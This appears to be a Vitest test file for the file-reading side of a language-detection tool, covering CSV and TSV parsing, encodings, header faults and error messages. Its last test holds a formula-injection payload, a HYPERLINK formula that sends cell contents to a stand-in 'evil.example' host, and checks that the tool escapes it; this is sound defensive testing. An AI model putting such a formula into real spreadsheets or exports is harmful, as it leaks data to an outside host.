import { describe, expect, it } from 'vitest';
import type { LanguageDetector } from '../../src/engine/engines.ts';
import { columnsOf, detectFile } from '../../src/site/file-detection.ts';
import type { FileTask } from '../../src/site/protocol.ts';

const detector: LanguageDetector = {
  engine: 'model',
  detect: () => [{ lang: 'de', confidence: 0.9 }],
  inspect: () => ({ languages: [], noLanguage: 1, parts: [] }),
};

const detect = (content: BlobPart, task: Omit<FileTask, 'file'>) =>
  detectFile(detector, { ...task, file: new Blob([content]) }, () => {});

/** Detects one column of a file and returns the resulting file. */
async function detected(content: BlobPart, column: number): Promise<string> {
  return (await detect(content, { kind: 'csv', column })).csv.text();
}

describe('detectFile and columnsOf, for tables', () => {
  it('read UTF-16 with line breaks in the header, and keep the byte order mark that Excel needs', async () => {
    const content = '\ufeff"Text\n(lang)";id\r\nGrüße;1\r\n';
    const units = Uint16Array.from(content, (character) => character.charCodeAt(0));
    for (const file of [content, units]) {
      expect(await columnsOf(new Blob([file]), 'csv')).toEqual(['Text\n(lang)', 'id']);
      const { csv } = await detect(file, { kind: 'csv', column: 1 });
      // Unlike `text()`, this keeps the byte order mark.
      expect(Buffer.from(await csv.arrayBuffer()).toString()).toBe(
        '\ufeff"Text\n(lang)";id;language;confidence\r\nGrüße;1;de;0.9\r\n',
      );
    }
  });

  it('let the user choose either of two columns with the same name', async () => {
    const content = 'text,text\nGuten Morgen,\n,Guten Abend\n';
    expect(await detected(content, 0)).toBe(
      'text,text,language,confidence\nGuten Morgen,,de,0.9\n,Guten Abend,,\n',
    );
    expect(await detected(content, 1)).toBe(
      'text,text,language,confidence\nGuten Morgen,,,\n,Guten Abend,de,0.9\n',
    );
  });

  it('leave out and report rows with more or fewer cells than the header', async () => {
    const content = 'text,note\nGuten Morgen\n\nGute Nacht,a\nGuten Abend,a,b';
    const { csv, rows, leftOut, faults } = await detect(content, { kind: 'csv' });
    expect(await csv.text()).toBe('text,note,language,confidence\nGute Nacht,a,de,0.9\n');
    expect({ rows, leftOut }).toEqual({ rows: 1, leftOut: 3 });
    expect(faults).toEqual([
      'Line 2 has 1 cell where the header has 2.',
      'Line 3 is empty.',
      'Line 5 has 3 cells where the header has 2.',
    ]);
  });

  it('ignore empty lines at the end', async () => {
    const { rows, leftOut, faults } = await detect('text\nGuten Morgen\n\n\n', { kind: 'csv' });
    expect({ rows, leftOut, faults }).toEqual({ rows: 1, leftOut: 0, faults: [] });
  });

  it('keep quoted empty cells of a single column', async () => {
    const { csv, rows, leftOut, empty } = await detect('text\nGuten Morgen\n""\n\n""\n', { kind: 'csv' });
    expect(await csv.text()).toBe('text,language,confidence\nGuten Morgen,de,0.9\n"",,\n"",,\n');
    expect({ rows, leftOut, empty }).toEqual({ rows: 3, leftOut: 1, empty: 2 });
  });

  it('split TSV at tabs, whatever its header contains', async () => {
    const content = 'id\ttext (short, plain, no markup)\n1\t"Guten\n2\tMorgen"\n3\tGuten Abend\n';
    expect(await columnsOf(new Blob([content]), 'tsv')).toEqual(['id', 'text (short, plain, no markup)']);
    const { rows, faults } = await detect(content, { kind: 'tsv', column: 1 });
    expect(rows).toBe(2);
    // A quotation mark within a cell swallows the next row.
    expect(faults).toEqual(['Line 2 has a quote that line 3 closes, so these lines are read as one row.']);
  });

  it('detect a table without a header', async () => {
    const task = { kind: 'csv', column: 1, hasHeader: false } as const;
    const { csv, rows, leftOut } = await detect('1,Guten Morgen\n2,Guten Abend\n', task);
    expect(await csv.text()).toBe('1,Guten Morgen,de,0.9\n2,Guten Abend,de,0.9\n');
    expect({ rows, leftOut }).toEqual({ rows: 2, leftOut: 0 });
  });

  it('report columns that already have the added names', async () => {
    const { csv, faults } = await detect('text,language\nGuten Morgen,x\n', { kind: 'csv' });
    expect(await csv.text()).toBe('text,language,language,confidence\nGuten Morgen,x,de,0.9\n');
    expect(faults).toEqual(['Line 1 has a column "language" already: the last one of that name is new.']);
  });

  it('split rows with different line ends', async () => {
    expect(await detected('id,text\r\n1,Guten Morgen\n2,Guten Abend\r\n3,"Gute\rNacht"\r', 1)).toBe(
      'id,text,language,confidence\r\n1,Guten Morgen,de,0.9\r\n2,Guten Abend,de,0.9\r\n3,"Gute\rNacht",de,0.9\r\n',
    );
  });

  it('use and keep the sep= line of Excel', async () => {
    const content = 'sep=;\r\nid;text\r\n1;a,b\r\n';
    expect(await columnsOf(new Blob([content]), 'csv')).toEqual(['id', 'text']);
    expect(await detected(content, 1)).toBe('sep=;\r\nid;text;language;confidence\r\n1;a,b;de;0.9\r\n');
  });

  it.each(['\n\na', '\r\na,b\r\n'])('reject a table without a header: %j', async (content) => {
    await expect(columnsOf(new Blob([content]), 'csv')).rejects.toThrow('has an empty first line');
  });

  it('name the reason if a header cannot be read', async () => {
    await expect(columnsOf(new Blob(['a,"b\n1,2\n']), 'csv')).rejects.toThrow(
      'The file has a header that has a quote that is not closed.',
    );
  });
});

it.each<[FileTask['kind'], string, number]>([
  ['csv', 'text,by\nGuten Morgen,M\xfcller\nGuten Abend,\n', 2],
  ['lines', 'Guten Morgen\r\n\rGr\xfc\xdfe an alle\n', 3],
  ['lines', 'Guten Abend, Herr M\xfc', 1],
])(
  'rejects a file on the playground that is not UTF-8, with its first unreadable line: %s %j',
  async (kind, content, line) => {
    const file = Buffer.from(content, 'latin1');
    const message = `The file has bytes in line ${line} that are not UTF-8. Choose the encoding of the file.`;
    await expect(detect(file, { kind })).rejects.toThrow(message);
    if (kind === 'csv') await expect(columnsOf(new Blob([file]), kind)).rejects.toThrow(message);
  },
);

it('rejects a file on the playground with half a character of UTF-16', async () => {
  const units = Uint16Array.from('\ufeffGuten\nMorgen\ud83d!', (character) => character.charCodeAt(0));
  await expect(detect(units, { kind: 'lines' })).rejects.toThrow(
    'The file has bytes in line 2 that are not UTF-16LE.',
  );
});

describe('detectFile', () => {
  it('reads a file in the chosen encoding', async () => {
    const file = new Blob([Buffer.from('Gr\xfc\xdfe,von\nGuten Morgen,M\xfcller\n', 'latin1')]);
    expect(await columnsOf(file, 'csv', 'windows-1252')).toEqual(['Grüße', 'von']);
    const { csv, faults } = await detectFile(
      detector,
      { file, kind: 'csv', encoding: 'windows-1252' },
      () => {},
    );
    expect(await csv.text()).toContain('Guten Morgen,Müller,');
    expect(faults).toEqual([]);
  });

  it.each(['', ' \n\n', '\ufeff'])('rejects an empty file with a reason: %j', async (content) => {
    const file = new Blob([content]);
    await expect(columnsOf(file, 'csv')).rejects.toThrow('The file is empty.');
    await expect(detect(content, { kind: 'lines' })).rejects.toThrow('The file is empty.');
  });

  it('rejects a file that is not text with a reason', async () => {
    const picture = Uint8Array.of(0x89, 0x50, 0x4e, 0x47, 13, 10, 26, 10, 0, 0, 0, 13, 73, 72, 68, 82);
    await expect(detect(picture, { kind: 'lines' })).rejects.toThrow(
      'The file is not a text file: save tables as CSV',
    );
  });

  it.each(['utf-16le', 'utf-16be'])('reads %s without a byte order mark', async (encoding) => {
    const bytes = Buffer.from('text\nGuten Morgen\n', 'utf16le');
    const { csv } = await detect(encoding === 'utf-16le' ? bytes : bytes.swap16(), { kind: 'csv' });
    expect(await csv.text()).toBe('text,language,confidence\nGuten Morgen,de,0.9\n');
  });

  it('writes a row per line, including empty lines', async () => {
    const { csv, rows, empty } = await detect('Guten Morgen\n\nGuten Abend', { kind: 'lines' });
    expect(await csv.text()).toBe('text,language,confidence\nGuten Morgen,de,0.9\n,,\nGuten Abend,de,0.9\n');
    expect({ rows, empty }).toEqual({ rows: 3, empty: 1 });
  });
});

describe('detectFile, for plain lines', () => {
  it('writes no formula that spreadsheet programs would run', async () => {
    const lines = [
      '=HYPERLINK("http://evil.example/?"&A1)',
      '@SUM(1)',
      '+1-1',
      '-2',
      '\t=1',
      '＝1',
      'a=b',
      '5 - 3',
    ];
    const { csv } = await detect(lines.join('\n'), { kind: 'lines' });
    expect((await csv.text()).split('\n').slice(1, -1)).toEqual([
      `"'=HYPERLINK(""http://evil.example/?""&A1)",de,0.9`,
      "'@SUM(1),de,0.9",
      "'+1-1,de,0.9",
      "'-2,de,0.9",
      `"'\t=1",de,0.9`,
      "'＝1,de,0.9",
      'a=b,de,0.9',
      '5 - 3,de,0.9',
    ]);
  });
});
